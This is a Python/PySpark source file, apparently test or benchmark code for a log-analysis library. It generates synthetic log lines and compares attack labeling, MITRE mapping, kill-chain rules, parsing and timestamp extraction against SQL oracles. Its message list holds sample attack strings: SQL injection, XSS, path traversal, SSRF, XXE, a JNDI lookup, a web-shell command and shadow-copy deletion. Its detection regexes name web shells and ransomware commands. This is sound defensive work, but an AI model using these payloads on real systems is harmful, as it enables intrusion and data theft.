"""Detection, parsing and attack labels over log lines that are made from the event stream.

Each event becomes a line of the format of its user's source, so that the types and fields which come out again are
known from the event. Messages for the attack labels are picked from a short list by the event's number.
"""

from __future__ import annotations

from pyspark.sql import functions as F

from emberlog.functions.attacks import CATEGORY_ATTACKS, LOG_CATEGORIES, MITRE_IDS, ORDERED_CLASSES
from emberlog.functions.registry import LOG_CODES
from emberlog.operators import correlation as C
from emberlog.operators import detect as T
from emberlog.operators import enrich as N
from emberlog.operators import labels as B
from emberlog.operators import sized
from emberlog.plans.entries import SQL, entries

QUERIES: dict = {}
ORACLES: dict = {}
#: Lines of a task.
LINES = 100_000

SOURCES = ("Apache", "Linux SSHD Failed", "iptables", "MySQL Error", "Postfix", "AWS CloudTrail", "Suricata", "Linux Syslog", "Custom / Raw")
MESSAGES = (
    "GET /index.html 200", "GET /item?id=7' OR '1'='1 200", "q=1; DROP TABLE carts --", "id=4 UNION SELECT name FROM information_schema.tables", "<script>track()</script>", "img onerror=alert(4)",
    "a=1; cat /srv/key ", "GET /../../etc/passwd 403", "GET /%2e%2e/win.ini", "next=http://169.254.169.254/latest", "<!DOCTYPE a [ <!ENTITY b SYSTEM \"file:///c\">", "ua=${jndi:ldap://x.test/a}",
    "POST /up.php?cmd=id", "eval(base64_decode(data))", "GET /.env sqlmap", "Failed password for ines", "Authentication failure for unknown user olga", "Account locked after too many attempts",
    "sudo su by ines", "useradd mallory", "psexec to host9", "impossible travel of olga", "ticket 4769 with 0x17 krbtgt", "mimikatz pass the hash", "Connection refused, port scan", "syn flood, rate limit exceeded",
    "beacon every 60 s", "large data transfer outbound", "SELECT a INTO OUTFILE 'b' FROM c", "GRANT ALL on crm", "customer data opened", "535 login failed", "large attachment, macro inside", "user enumeration by rcpt",
    "trojan found, suspicious process", "xmrig joins mining pool", "vssadmin delete shadows /all", "shadowcopy delete then report.locked", "AssumeRole by admin, policy", "ExportSnapshot bulk download", "ListBuckets from new principal",
    "UpdateFunctionCode of hook", "malware was detected", "brute force was detected", "all quiet",
)


def _quoted(v: str) -> str:
    return "'" + v.replace("'", "''") + "'"


def messages(spark, sf_dir):
    """Entries with the label of their source and a message."""
    e = entries(spark, sf_dir)
    pick = lambda values, i: F.element_at(F.array(*map(F.lit, values)), (F.pmod(i, F.lit(len(values))) + 1).cast("int"))
    return e.withColumn("label", pick(SOURCES, F.col("id"))).withColumn("message", pick(MESSAGES, F.expr(f"id div {len(SOURCES)}"))).withColumn("log_code", T.log_code(F.col("label")))


MESSAGE_SQL = SQL + (
    f""", m AS (SELECT *, ([{", ".join(map(_quoted, SOURCES))}])[id % {len(SOURCES)} + 1] AS label, ([{", ".join(map(_quoted, MESSAGES))}])[id // {len(SOURCES)} % {len(MESSAGES)} + 1] AS message FROM e),
cat AS (SELECT *, CASE {" ".join(f"WHEN regexp_matches(lower(label), {_quoted(p)}) THEN '{n}'" for n, p in LOG_CATEGORIES)} ELSE 'generic' END AS category,
  CASE label {" ".join(f"WHEN {_quoted(k)} THEN '{LOG_CODES[k]}'" for k in SOURCES if k in LOG_CODES)} ELSE 'raw' END AS log_code FROM m)"""
)


def _query(sql: str | None = None, prefix: str = MESSAGE_SQL):
    def add(f):
        QUERIES[f.__name__] = lambda spark, sf_dir: f(messages(spark, sf_dir))
        if sql:
            ORACLES[f.__name__] = prefix + sql
        return f

    return add


def _found(patterns) -> str:
    return " + ".join(f"regexp_matches(message, {_quoted(p)}, 'i')::INTEGER" for p in patterns)


_SCORED = ", s AS (" + " UNION ALL ".join(
    f"SELECT id, {i} AS o, '{kind}' AS type, round(least({weight}::DOUBLE + 0.1::DOUBLE * ({_found(ps)}), 0.95::DOUBLE), 4) AS score FROM cat WHERE category = '{cat}' AND {_found(ps)} > 0"
    for i, (cat, kind, weight, ps) in enumerate(CATEGORY_ATTACKS)
) + "), best AS (SELECT *, row_number() OVER (PARTITION BY id ORDER BY score DESC, o) AS r FROM s)"


@_query(_SCORED + " SELECT cat.id, category, log_code, type, score FROM cat LEFT JOIN best ON cat.id = best.id AND r = 1")
def category_attacks(m):
    """Category and code of each entry's log type, and the best of the category's attacks."""
    category = B.log_category(F.col("label"))
    return m.select("id", category.alias("category"), "log_code", B.category_attack(F.col("message"), category).alias("b")).select("id", "category", "log_code", "b.type", "b.score")


_MITRE = "(VALUES " + ", ".join(f"('{a}', '{b}', '{c}')" for a, b, c in MITRE_IDS) + ") t(type, tactics, techniques)"


@_query(_SCORED + f" SELECT type AS attack_type, tactics, techniques, count(*) AS n FROM best LEFT JOIN {_MITRE} USING (type) WHERE r = 1 GROUP BY ALL")
def attack_tactics(m):
    """Tactics and techniques of the attacks found."""
    found = m.select(B.category_attack(F.col("message"), B.log_category(F.col("label")))["type"].alias("attack_type")).filter("attack_type is not null")
    g = B.with_mitre_ids(found).groupBy("attack_type", "tactics", "techniques").agg(F.count("*").alias("n"))
    return g.withColumn("tactics", F.concat_ws(",", "tactics")).withColumn("techniques", F.concat_ws(",", "techniques"))


_CLASSES = ", k AS (SELECT *, " + ", ".join(f"{_found(ps)} AS n{i}" for i, (_, ps) in enumerate(ORDERED_CLASSES)) + " FROM cat), c AS (SELECT *, CASE " + " ".join(
    f"WHEN n{i} > 0 THEN '{kind}'" for i, (kind, _) in enumerate(ORDERED_CLASSES)
) + " END AS kind, CASE " + " ".join(f"WHEN n{i} > 0 THEN least(0.5 + 0.15 * n{i}, 0.95)" for i in range(len(ORDERED_CLASSES))) + " END AS conf FROM k)"


@_query(_CLASSES + " SELECT id, kind, round(conf, 4)::DOUBLE AS confidence FROM c WHERE kind IS NOT NULL")
def message_classes(m):
    """The first class in order that a message falls in."""
    kind, conf = B.ordered_class(F.col("message"))
    return m.select("id", kind.alias("kind"), F.round(conf, 4).cast("double").alias("confidence")).filter("kind is not null")


_SOURCE = "CASE " + " ".join(f"WHEN log_code IN ({', '.join(map(_quoted, codes))}) THEN '{name}'" for name, codes in N.CATEGORY_CODES.items()) + " ELSE 'other' END"
_RULES = """, z AS (SELECT *, {src} AS src FROM cat),
u AS (SELECT "user" AS key, count(*) FILTER (WHERE outcome = 'failure') AS f, count(*) FILTER (WHERE outcome = 'success') AS s, min(us) FILTER (WHERE outcome = 'failure') AS a, min(us) FILTER (WHERE outcome = 'success') AS b FROM z WHERE src = 'auth' GROUP BY 1),
ad AS (SELECT count(*) AS n, min(us) AS a, max(us) AS b FROM z WHERE src = 'auth' AND outcome = 'success' AND regexp_matches(lower("user"), 'u1|root')),
ra AS (SELECT count(*) AS n, min(us) AS a, max(us) AS b FROM z WHERE src = 'system' AND regexp_matches(lower(message), 'vssadmin.*delete|shadowcopy.*delete|encrypt|[.]locked|bcditedit')),
wb AS (SELECT count(*) AS n, min(us) AS a, max(us) AS b FROM z WHERE src = 'web' AND regexp_matches(message, '[.](php|asp|aspx|jsp)[?]cmd=|c99|r57|b374k|wso|eval\\s*[(]', 'i')),
bf AS (SELECT ip AS key, count(*) AS n, min(us) AS a, max(us) AS b FROM z WHERE src = 'auth' AND outcome = 'failure' GROUP BY 1)
SELECT 'account_takeover' AS rule, 'initial_access' AS stage, key, f AS evidence, a AS first_us, b AS last_us, 0.9::DOUBLE AS confidence FROM u WHERE f >= {least} AND s > 0
UNION ALL SELECT 'privilege_escalation', 'privilege_escalation', NULL, n, a, b, 0.75 FROM ad WHERE n >= 1
UNION ALL SELECT 'ransomware', 'complete', NULL, n, a, b, 0.9 FROM ra WHERE n >= 2
UNION ALL SELECT 'webshell', 'persistence', NULL, n, a, b, 0.8 FROM wb WHERE n >= 1
UNION ALL SELECT 'bruteforce', 'reconnaissance', key, n, a, b, 0.85 FROM bf WHERE n >= {least}"""


@_query(_RULES.format(src=_SOURCE, least=2))
def source_kill_chains(m):
    """Kill chains over entries of all sources; users are numbers here, so the privileged names are made up."""
    return C.source_kill_chains(m, N.category(F.col("log_code")), least=2, admins=("u1", "root"))


# ---- lines of known formats: user modulo 9 is the source


def lines(spark, sf_dir):
    """(source, line_no, line) with the entry's id: the source is the format's name."""
    e = sized.spread(entries(spark, sf_dir).filter("id is not null"), LINES)
    ts = lambda f: F.date_format("event_ts", f)
    text = lambda *parts: F.concat(*(p if not isinstance(p, str) else F.lit(p) for p in parts))
    ip, user, k = F.col("ip"), F.col("user"), F.col("port").cast("string")
    forms = {
        "Apache": text(ip, " - - [", ts("dd/MMM/yyyy:HH:mm:ss"), '] "GET /p/', k, ' HTTP/1.1" 200 ', k),
        "Linux SSHD Failed": text(ts("MMM dd HH:mm:ss"), " gate sshd[77]: Failed password for ", user, " from ", ip, " port ", k, " ssh2"),
        "Linux SSHD Accepted": text(ts("MMM dd HH:mm:ss"), " gate sshd[77]: Accepted publickey for ", user, " from ", ip, " port ", k, " ssh2"),
        "iptables": text(ts("MMM dd HH:mm:ss"), " gw kernel: IPTABLES-DROP: IN=eth1 OUT= SRC=", ip, " DST=198.18.0.9 PROTO=TCP SPT=", k, " DPT=23"),
        "MySQL Query": text(ts("yyyy-MM-dd'T'HH:mm:ss"), "Z ", k, " Query select ", user),
        "PostgreSQL Error": text(ts("yyyy-MM-dd HH:mm:ss.SSS"), " UTC [", k, "] ", user, "@crm ERROR: gone"),
        "AWS CloudTrail": text('{"eventTime":"', ts("yyyy-MM-dd'T'HH:mm:ss"), 'Z","eventName":"Put","awsRegion":"eu","sourceIPAddress":"', ip, '","userIdentity":{"arn":"', user, '"}}'),
        "Palo Alto Firewall": text(ts("yyyy/MM/dd HH:mm:ss"), " drop udp ", ip, " 198.18.0.9 rule=r", k),
        "Custom / Raw": text("user=", user, " from ", ip, " code=", k),
    }
    names = list(forms)
    which = F.pmod(F.substring("user", 2, 20).cast("long"), F.lit(len(names)))
    line = F.coalesce(*(F.when(which == i, form) for i, form in enumerate(forms.values())))
    return e.select(F.element_at(F.array(*map(F.lit, names)), (which + 1).cast("int")).alias("source"), F.col("id").alias("line_no"), line.alias("line"))


_FORMATS = ("Apache", "Linux SSHD Failed", "Linux SSHD Accepted", "iptables", "MySQL Query", "PostgreSQL Error", "AWS CloudTrail", "Palo Alto Firewall", "Custom / Raw")
_LINE_SQL = SQL + f""", l AS (SELECT *, CAST(substr("user", 2) AS BIGINT) % 9 AS f, ([{", ".join(map(_quoted, _FORMATS))}])[CAST(substr("user", 2) AS BIGINT) % 9 + 1] AS source FROM e WHERE id IS NOT NULL)"""

ORACLES["detect_log_types"] = _LINE_SQL + """ SELECT source, source AS log_type, CASE WHEN source = 'Custom / Raw' THEN 0 ELSE 3 * least(count(*), 100) END::BIGINT AS score FROM l GROUP BY source"""


def detect_log_types(spark, sf_dir):
    """The type of each source of lines by the vote."""
    out = T.detect(lines(spark, sf_dir))
    return out.withColumn("score", F.when(F.col("log_type") == T.RAW, 0).otherwise(F.col("score")).cast("long"))


ORACLES["parse_lines"] = _LINE_SQL + """ SELECT source, id AS line_no, f <> 8 AS parsed, CASE source WHEN 'Apache' THEN 'apache' WHEN 'Linux SSHD Failed' THEN 'ssh_auth' WHEN 'Linux SSHD Accepted' THEN 'ssh_auth' WHEN 'iptables' THEN 'iptables'
  WHEN 'MySQL Query' THEN 'mysql_query' WHEN 'PostgreSQL Error' THEN 'postgres_error' WHEN 'AWS CloudTrail' THEN 'cloudtrail' WHEN 'Palo Alto Firewall' THEN 'palo_alto' ELSE 'raw' END AS log_code,
  CASE WHEN f IN (4, 5) THEN NULL ELSE ip END AS ip, CASE WHEN f IN (1, 2, 5, 6, 8) THEN "user" END AS "user", CASE WHEN f IN (1, 2, 3) THEN port WHEN f = 8 THEN port END AS port FROM l"""


def parse_lines(spark, sf_dir):
    """Fields that the parsers read out of the lines again."""
    rows = lines(spark, sf_dir)
    p = T.parse(rows, T.detect(rows))
    f = lambda *keys: F.coalesce(*(F.col("fields")[k] for k in keys))
    return p.select("source", "line_no", "parsed", "log_code", f("ip", "src_ip", "source_ip").alias("ip"), f("user", "username", "user_identity").alias("user"), f("port", "src_port", "code").try_cast("int").alias("port"))


QUERIES |= {"detect_log_types": detect_log_types, "parse_lines": parse_lines}


# ---- times of lines in many formats: user modulo the number of forms is the source

#: (name, what comes before the time, its format, what comes after it, digits of its fraction)
_TIMED = (
    ("apache", '10.0.0.1 - - [', "dd/MMM/yyyy:HH:mm:ss", ' +0000] "GET /a HTTP/1.1" 200 7', 0), ("apache_error", "[", "EEE MMM dd HH:mm:ss.SSSSSS yyyy", "] [core:warn] [pid 4711] slow", 6),
    ("django", "[", "dd/MMM/yyyy HH:mm:ss", '] "GET /polls" 200', 0), ("cloudtrail", '{"eventTime":"', "yyyy-MM-dd'T'HH:mm:ss", 'Z","eventName":"Put","awsRegion":"eu"}', 0), ("docker", '{"log":"ready","stream":"stderr","time":"', "yyyy-MM-dd'T'HH:mm:ss.SSS", 'Z"}', 3),
    ("laravel", "[", "yyyy-MM-dd HH:mm:ss", "] production.ERROR: no route", 0), ("gunicorn", "[", "yyyy-MM-dd HH:mm:ss", " +0000] [31] [INFO] Booting", 0), ("spring", "", "yyyy-MM-dd HH:mm:ss.SSS", " WARN shop.Api - GET /x 503", 3),
    ("iis", "", "yyyy-MM-dd HH:mm:ss", " 10.0.0.1 GET /x.aspx q=1 80 - 10.0.0.9 Agent 200 ", 0), ("postfix", "", "MMM dd HH:mm:ss", " mx2 postfix/qmgr[512]: 4F: removed", 0), ("exim", "", "yyyy-MM-dd HH:mm:ss", " 1TXYZA-0007 => olga@mail.test R=dns", 0),
    ("viewer", "Audit Failure ", "dd-MM-yyyy HH:mm:ss", " Security-Auditing 4625", 0), ("palo_alto", "", "yyyy/MM/dd HH:mm:ss", " drop udp 10.0.0.2 10.0.0.9 rule=dns", 0), ("fortigate", "date=", "yyyy-MM-dd 'time='HH:mm:ss", " action=deny srcip=10.0.0.2 dstip=10.0.0.9", 0),
    ("mysql", "", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS", "Z 17 Query select 1", 6), ("postgres", "", "yyyy-MM-dd HH:mm:ss.SSS", " UTC [88] olga@crm FATAL: gone", 3), ("oracle", "", "EEE MMM dd HH:mm:ss yyyy", "", 0), ("listener", "", "dd-MMM-yyyy HH:mm:ss", " * (CONNECT_DATA=(SERVICE_NAME=crm)) * x", 0),
    ("sshd", "", "MMM dd HH:mm:ss", " db3 sshd[610]: Failed password for olga from 10.0.0.2 port 4000 ssh2", 0), ("filezilla", "(000017)", "dd/MM/yyyy HH:mm:ss", " - olga (10.0.0.2)> 226 done", 0), ("iis_ftp", "", "yyyy-MM-dd HH:mm:ss", " 10.0.0.2 olga 10.0.0.9 21 STOR /a.bin 226 0 512 77", 0),
    ("xferlog", "", "EEE MMM dd HH:mm:ss yyyy", " 4 10.0.0.2 512 /a.bin b _ o r olga ftp 1 * c", 0), ("redis", "12:M ", "d MMM yyyy HH:mm:ss.SSS", " * ready", 3), ("kafka", "[", "yyyy-MM-dd'T'HH:mm:ss,SSS", " INFO] broker up", 3), ("offset", "at ", "yyyy-MM-dd'T'HH:mm:ss.SSS", "+00:00 done", 3), ("raw", "user=x ", "yyyy/MM/dd HH:mm:ss", " code=7", 0),
)

ORACLES["event_times"] = SQL + f""" SELECT id AS line_no, ([{", ".join(_quoted(x[0]) for x in _TIMED)}])[CAST(substr("user", 2) AS BIGINT) % {len(_TIMED)} + 1] AS source,
  us // ([{", ".join(str(10 ** (6 - x[4])) for x in _TIMED)}])[CAST(substr("user", 2) AS BIGINT) % {len(_TIMED)} + 1] * ([{", ".join(str(10 ** (6 - x[4])) for x in _TIMED)}])[CAST(substr("user", 2) AS BIGINT) % {len(_TIMED)} + 1] AS us FROM e WHERE id IS NOT NULL"""


def event_times(spark, sf_dir):
    """The times that lines of 26 formats are given, by their fields or their text."""
    e = sized.spread(entries(spark, sf_dir).filter("id is not null"), LINES)
    which = (F.substring("user", 2, 20).cast("long") % len(_TIMED) + 1).cast("int")
    line = F.coalesce(*(F.when(which == i + 1, F.concat(F.lit(a), F.date_format("event_ts", f), F.lit(b))) for i, (_, a, f, b, _) in enumerate(_TIMED)))
    rows = e.select(F.element_at(F.array(*(F.lit(x[0]) for x in _TIMED)), which).alias("source"), F.col("id").alias("line_no"), line.alias("line"))
    found = T.normalise(T.parse(rows, T.detect(rows)), 2024)
    return found.select("source", "line_no", F.unix_micros("event_ts").alias("us"))


QUERIES["event_times"] = event_times
